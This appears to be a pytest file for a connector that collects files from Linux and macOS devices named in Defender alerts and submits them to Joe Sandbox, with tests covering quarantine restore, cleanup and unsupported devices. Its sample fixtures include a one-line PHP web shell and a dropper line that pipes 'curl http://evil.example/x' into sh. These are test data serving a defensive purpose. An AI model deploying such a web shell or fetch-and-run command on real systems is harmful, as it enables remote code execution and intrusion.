"""Linux and macOS devices end to end against the emulators (issue 19): the platform decided per
machine (osPlatform, else the evidence path's form, said once in the job's history), GetFile on
the POSIX path, the sample analysed on a Joe system of the device's OS, the quarantined file
restored by the Bash script only when AllowQuarantineRestore allows it (and a failure comment
naming the setting when not), nothing left on the device, and machines live response cannot
reach failed cleanly, without a live response call."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from typing import Any

import pytest

from joedefender.domain.comments import MARKER_PREFIX
from joedefender.domain.jobs import SampleJob
from joedefender_emulators.mde.bash_sandbox import sandbox_works
from tests.pipeline.builders import alert, file_evidence, machine, machine_id, world
from tests.world import World, scenario

WorldFactory = Callable[..., World]

_why_not = sandbox_works()
requires_sandbox = pytest.mark.skipif(
    _why_not is not None and os.environ.get("JOEDEFENDER_REQUIRE_SANDBOX") != "1",
    reason=f"the Bash script runs in bubblewrap: {_why_not}",
)

WEBSHELL = "/var/www/html/uploads/shell.php"
DROPPER = "/Users/carol/Downloads/install.sh"
MINER = "/tmp/.x/kworkerd"  # on the emulated device
SAMPLES = {
    "webshell": "<?php system($_GET['c']); /* joedefender test web shell */ ?>",
    "dropper": "#!/bin/sh\n# joedefender test dropper\ncurl http://evil.example/x | sh\n",
    "miner": "joedefender test coin miner (harmless text)",
    "tool": "joedefender test tool for Windows (harmless text)",
}
VERDICTS = [{"sample": name, "detection": "malicious", "score": 70 + n} for n, name in enumerate(SAMPLES)]
UBUNTU: dict[str, Any] = {"osPlatform": "Ubuntu", "agentVersion": "101.24122.0008"}
MAC: dict[str, Any] = {"osPlatform": "macOS", "agentVersion": "101.24112.0003"}
SYSTEMS = {"JoeSandboxSystemsLinux": "lnxubuntu22", "JoeSandboxSystemsMacOS": "mac13"}


def _sha256(sample: str) -> str:
    return hashlib.sha256(SAMPLES[sample].encode()).hexdigest()


def _ours(w: World, alert_id: str) -> list[str]:
    return [c for c in w.comments(alert_id) if MARKER_PREFIX in c]


def _job(w: World, sample: str) -> tuple[SampleJob, list[tuple[str, str]]]:
    with w.connector() as connector:
        stored = connector.ctx.jobs.get(f"sha256:{_sha256(sample)}")
        assert stored is not None
        history = [(h.outcome, h.detail) for h in connector.store.history(stored.record.key)]
    return stored.record, history


def _attempts(job: SampleJob) -> list[tuple[str, str, str]]:
    return [(a.machine_id, a.strategy, a.outcome) for a in job.attempts]


def _platform_lines(history: list[tuple[str, str]]) -> list[str]:
    return [detail for outcome, detail in history if outcome == "platform"]


def _systems(w: World) -> dict[str, list[str]]:
    return {s["sha256"]: s["systems"] for s in w.submissions()}


def _device(w: World, n: int) -> dict[str, Any]:
    files: dict[str, Any] = w.defender(f"/_emulator/machines/{machine_id(n)}/files")
    return files


def _scripts(w: World, n: int) -> list[str]:
    """The Args of every RunScript sent to machine `n`."""
    return [
        p["value"]
        for action in w.live_responses(machine_id(n))
        for c in action["commands"]
        if c["command"]["type"] == "RunScript"
        for p in c["command"]["params"]
        if p["key"] == "Args"
    ]


def test_edr_alerts_on_linux_and_macos_are_fetched_by_getfile_and_analysed_on_their_os(
    make_world: WorldFactory,
) -> None:
    machines = [machine(1, files={WEBSHELL: "webshell"}, **UBUNTU), machine(2, files={DROPPER: "dropper"}, **MAC)]
    alerts = [alert(1, 1, file_evidence("webshell", WEBSHELL)), alert(2, 2, file_evidence("dropper", DROPPER))]
    w = make_world(scenario(world(samples=SAMPLES, machines=machines, alerts=alerts, verdicts=VERDICTS)), **SYSTEMS)
    w.process(*(a["id"] for a in alerts))

    assert w.getfiles(machine_id(1)) == [WEBSHELL]  # joined with `/`, no Windows rules
    assert w.getfiles(machine_id(2)) == [DROPPER]
    assert _systems(w) == {_sha256("webshell"): ["lnxubuntu22"], _sha256("dropper"): ["mac13"]}
    for a, score in ((alerts[0], 70), (alerts[1], 71)):
        (comment,) = _ours(w, a["id"])
        assert comment.startswith(f"Joe Sandbox: MALICIOUS (score {score}/100)"), comment
    for sample, n, says in (("webshell", 1, "'Ubuntu' is Linux"), ("dropper", 2, "'macOS' is macOS")):
        job, history = _job(w, sample)
        assert _attempts(job) == [(machine_id(n), "getfile", "collected")]
        assert _platform_lines(history) == [f"{machine_id(n)}: osPlatform {says}"]


def _quarantined_on_linux(**settings: str) -> tuple[dict[str, Any], dict[str, Any], dict[str, str]]:
    entry = {"threat_name": "Linux/CoinMiner.A", "original_path": MINER, "sample": "miner"}
    target = machine(1, quarantine=[entry], **UBUNTU)
    av = alert(1, 1, file_evidence("miner", MINER, status="Prevented"), source="WindowsDefenderAv", threat="Linux/X")
    raw = world(samples=SAMPLES, machines=[target], alerts=[av], verdicts=VERDICTS)
    return raw, av, SYSTEMS | settings


@requires_sandbox
def test_a_quarantined_file_on_linux_is_restored_by_the_bash_script_when_restore_is_allowed(
    make_world: WorldFactory,
) -> None:
    raw, av, settings = _quarantined_on_linux(AllowQuarantineRestore="true")
    w = make_world(scenario(raw), **settings)
    before = _device(w, 1)
    w.process(av["id"])

    job, history = _job(w, "miner")
    assert _attempts(job) == [(machine_id(1), "getfile", "failed"), (machine_id(1), "mdatp-restore", "collected")]
    assert _systems(w) == {_sha256("miner"): ["lnxubuntu22"]}  # the refanged bytes, hash-checked
    (comment,) = _ours(w, av["id"])
    assert comment.startswith("Joe Sandbox: MALICIOUS (score 72/100)"), comment
    assert _platform_lines(history) == [f"{machine_id(1)}: osPlatform 'Ubuntu' is Linux"]  # once, for two attempts
    nonce = job.attempts[1].nonce
    assert _scripts(w, 1) == [
        f"-Mode Restore -JobId {nonce} -Sha256 {_sha256('miner')} -OriginalPathHex {MINER.encode().hex()}",
        f"-Mode Cleanup -JobId {nonce}",  # the cleanup action, after the collection
    ]
    assert w.getfiles(machine_id(1)) == [MINER, f"/var/opt/joedefender/{nonce}/sample.bin"]
    library = {f["fileName"]: f for f in w.defender("/_emulator/library")}
    assert "joedefender-collect.sh" in library
    # The device as before, but the entry restored out of the quarantine (and the work root,
    # empty, kept for the next run as on Windows): no file, folder or exclusion of the job left.
    after = _device(w, 1)
    assert (after["quarantine"], after["restores"]) == ([], [MINER])
    assert after["files"] == before["files"]
    assert after["exclusions"] == before["exclusions"] == []
    assert sorted(after["folders"]) == sorted([*before["folders"], "/var/opt/joedefender"])


def test_a_quarantined_file_on_linux_gets_a_comment_naming_the_setting_when_restore_is_not_allowed(
    make_world: WorldFactory,
) -> None:
    raw, av, settings = _quarantined_on_linux()
    w = make_world(scenario(raw), **settings)
    before = _device(w, 1)
    w.process(av["id"])

    (comment,) = _ours(w, av["id"])
    assert comment.startswith("Joe Sandbox: not analysed"), comment
    assert "only be recovered by restoring it" in comment
    assert "AllowQuarantineRestore=true allows it" in comment
    job, _ = _job(w, "miner")
    assert _attempts(job) == [(machine_id(1), "getfile", "failed")]
    assert _scripts(w, 1) == []  # no script ran: the device is exactly as it was
    assert w.submissions() == []
    after = _device(w, 1)
    assert after == before  # mdatp's calls too: none


def test_an_unknown_osplatform_is_taken_from_the_evidence_path_and_the_history_says_so(
    make_world: WorldFactory,
) -> None:
    windows_path = "C:\\Users\\erin\\Downloads\\tool.exe"
    machines = [
        machine(1, files={windows_path: "tool"}, osPlatform="Workstation", device_os="windows"),
        machine(2, files={WEBSHELL: "webshell"}, osPlatform="Workstation"),  # the emulator: a Linux device
    ]
    alerts = [alert(1, 1, file_evidence("tool", windows_path)), alert(2, 2, file_evidence("webshell", WEBSHELL))]
    w = make_world(scenario(world(samples=SAMPLES, machines=machines, alerts=alerts, verdicts=VERDICTS)), **SYSTEMS)
    w.process(*(a["id"] for a in alerts))

    assert w.getfiles(machine_id(1)) == [windows_path]
    assert w.getfiles(machine_id(2)) == [WEBSHELL]
    assert _systems(w) == {_sha256("tool"): [], _sha256("webshell"): ["lnxubuntu22"]}  # Windows: JoeSandboxSystems
    _, history = _job(w, "tool")
    unknown = "osPlatform 'Workstation' names no platform we know; the evidence path"
    assert _platform_lines(history) == [f"{machine_id(1)}: {unknown} '{windows_path}' is a Windows path"]
    _, history = _job(w, "webshell")
    assert _platform_lines(history) == [f"{machine_id(2)}: {unknown} '{WEBSHELL}' is a POSIX path, taken for Linux"]


def test_machines_live_response_cannot_reach_fail_cleanly_without_a_live_response_call(
    make_world: WorldFactory,
) -> None:
    machines = [
        machine(1, files={WEBSHELL: "webshell"}, osPlatform="SuseLinux", agentVersion="101.44.2"),
        machine(2, osPlatform="iOS"),
    ]
    alerts = [alert(1, 1, file_evidence("webshell", WEBSHELL)), alert(2, 2, file_evidence("dropper", DROPPER))]
    w = make_world(scenario(world(samples=SAMPLES, machines=machines, alerts=alerts, verdicts=VERDICTS)))
    w.process(*(a["id"] for a in alerts))

    too_old = "live response needs Defender 101.45.13 or later on Linux; this device runs 101.44.2"
    unsupported = "osPlatform 'iOS': live response does not support this platform"
    for a, sample, why in ((alerts[0], "webshell", too_old), (alerts[1], "dropper", unsupported)):
        (comment,) = _ours(w, a["id"])
        assert comment.startswith("Joe Sandbox: not analysed"), comment
        assert why in comment
        job, history = _job(w, sample)
        assert job.state == "failed"
        assert job.attempts == []
        assert len([d for _, d in history if why in d]) == 2  # the platform line, and the job's failure
    assert w.calls("liveresponse.run") == 0
    assert w.submissions() == []
